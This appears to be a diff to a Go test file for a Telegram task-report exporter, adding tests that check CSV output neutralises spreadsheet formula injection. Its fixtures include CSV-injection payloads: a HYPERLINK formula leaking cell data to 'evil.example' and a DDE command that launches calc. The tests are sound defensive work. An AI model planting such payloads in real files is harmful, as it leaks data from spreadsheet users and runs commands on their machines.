@@ -543,7 +543,7 @@ func TestExportFilesFailures(t *testing.T) {
 			"16-1: failed: getFile: error do request for method getFile, Post \"" + closed.URL + "/bot***/getFile\"",
 			"2 of 2 file(s) could not be downloaded"},
 		{"download cut off", srv.Token(), cutting.URL, nil, exitFailure,
-			"16-1: failed: download: Get \"" + cutting.URL + "/file/bot<token>/documents/",
+			"16-1: failed: download: Get \"" + cutting.URL + "/file/bot***/documents/",
 			"2 of 2 file(s) could not be downloaded"},
 		{"no token", "", srv.URL(), nil, exitUsage, "", "export -files: telegram.token is empty: set TELEGRAM_BOT_TOKEN"},
 		{"with -format", srv.Token(), srv.URL(), []string{"-format", "csv"}, exitUsage, "",
@@ -627,5 +627,118 @@ func TestVerifyFindsAlteredAttachment(t *testing.T) {
 				t.Errorf("verify after renaming the attachment: got exit %d, %q; want 1 naming task 16 seq 2", code, out)
 			}
 		})
+	}
+}
+
+// formulaTexts begin as Excel, LibreOffice and Sheets read a formula (OWASP's list: = + - @,
+// tab and carriage return).
+var formulaTexts = []string{
+	`=HYPERLINK("http://evil.example/?"&A1,"详情")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1",
+}
+
+// TestCSVNeutralisesFormulas: report text that begins like a formula comes out of the CSV
+// with a leading ' (so a spreadsheet shows it as text and runs nothing), read back with
+// encoding/csv, on both stores; the JSON keeps the words exactly.
+func TestCSVNeutralisesFormulas(t *testing.T) {
+	for _, st := range storesUnderTest(t) {
+		t.Run(st.name, func(t *testing.T) {
+			path := exportConfig(t, st.url, prefixFor(t, st.url))
+			var ups []store.Update
+			for _, text := range formulaTexts {
+				ups = append(ups, attachedUpdate(16, text, nil))
+			}
+			ups = append(ups, attachedUpdate(16, "=附件见下", &store.Attachment{Kind: "document", FileID: "BQACAgUAAxkBAAIE", FileUniqueID: "AgADcQ8AAphYEVU", FileName: "a.pdf"}))
+			recordAll(t, path, ups...)
+
+			code, out, errOut := runCLI(t, "export", "-config", path, "-all", "-format", "csv")
+			if code != exitOK {
+				t.Fatalf("export csv: exit %d: %s", code, errOut)
+			}
+			rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, "\ufeff"))).ReadAll()
+			if err != nil {
+				t.Fatal(err)
+			}
+			var got []string
+			for _, r := range rows {
+				if r[0] == "16" && r[3] == "市教育局" {
+					got = append(got, r[7])
+				}
+			}
+			var want []string
+			for _, text := range formulaTexts {
+				// encoding/csv with UseCRLF drops a lone carriage return: the cell is still text.
+				want = append(want, "'"+strings.ReplaceAll(text, "\r", ""))
+			}
+			want = append(want, "'=附件见下 📎 a.pdf")
+			if strings.Join(got, "|") != strings.Join(want, "|") {
+				t.Errorf("CSV 最近报送内容: got %q, want %q", got, want)
+			}
+
+			code, out, errOut = runCLI(t, "export", "-config", path, "-all")
+			if code != exitOK {
+				t.Fatalf("export: exit %d: %s", code, errOut)
+			}
+			var doc exportJSON
+			if err := json.Unmarshal([]byte(out), &doc); err != nil {
+				t.Fatal(err)
+			}
+			var texts []string
+			for _, u := range doc.Tasks[15].Departments[0].Updates {
+				texts = append(texts, u.Text)
+			}
+			if wantJSON := append(formulaTexts[:len(formulaTexts):len(formulaTexts)], "=附件见下"); strings.Join(texts, "|") != strings.Join(wantJSON, "|") {
+				t.Errorf("JSON texts: got %q, want %q exactly", texts, wantJSON)
+			}
+		})
+	}
+}
+
+// TestCSVNeutralisesEveryTextCell: names and goals come from config.yaml and tasks.yaml, which
+// someone may have pasted from anywhere, and a file's name from its sender: every text cell
+// is neutralised, the numbers are left as numbers (-3 days left stays -3).
+func TestCSVNeutralisesEveryTextCell(t *testing.T) {
+	c, err := config.LoadConfigEnv("config.yaml", func(string) (string, bool) { return "", false })
+	if err != nil {
+		t.Fatal(err)
+	}
+	pct := 60
+	rows := []exportTask{{
+		task:     &config.Task{ID: 7, Area: "=1+1", Goal: "@SUM(A1)"},
+		deadline: time.Date(2026, 12, 31, 0, 0, 0, 0, c.Location),
+		daysLeft: -3,
+		departments: []exportDepartment{{
+			name:  "+市教育局",
+			state: store.State{Status: store.StatusInProgress, Percent: &pct},
+			updates: []store.Update{{ID: "7-1", At: time.Date(2026, 12, 1, 1, 0, 0, 0, time.UTC), Status: store.StatusInProgress,
+				Percent: &pct, Attachment: &store.Attachment{Kind: "document", FileName: "-x.xlsx"}}},
+		}},
+	}}
+	var buf bytes.Buffer
+	if err := writeCSV(&buf, rows, c, true); err != nil {
+		t.Fatal(err)
+	}
+	got, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\ufeff"))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(got) != 2 {
+		t.Fatalf("got %d rows, want the header and one", len(got))
+	}
+	row := got[1]
+	for i, want := range map[int]string{0: "7", 1: "'=1+1", 2: "'@SUM(A1)", 3: "'+市教育局", 5: "60", 7: "📎 -x.xlsx", 9: "-3"} {
+		if row[i] != want {
+			t.Errorf("column %d (%s): got %q, want %q", i, got[0][i], row[i], want)
+		}
+	}
+}
+
+func TestCSVCell(t *testing.T) {
+	for _, tt := range []struct{ in, want string }{
+		{"=1", "'=1"}, {"+1", "'+1"}, {"-1", "'-1"}, {"@a", "'@a"}, {"\t=1", "'\t=1"}, {"\r=1", "'\r=1"},
+		{"", ""}, {"进行中 60%", "进行中 60%"}, {"a=1", "a=1"}, {" =1", " =1"}, {"'=1", "'=1"},
+	} {
+		if got := csvCell(tt.in); got != tt.want {
+			t.Errorf("csvCell(%q): got %q, want %q", tt.in, got, tt.want)
+		}
 	}
 }
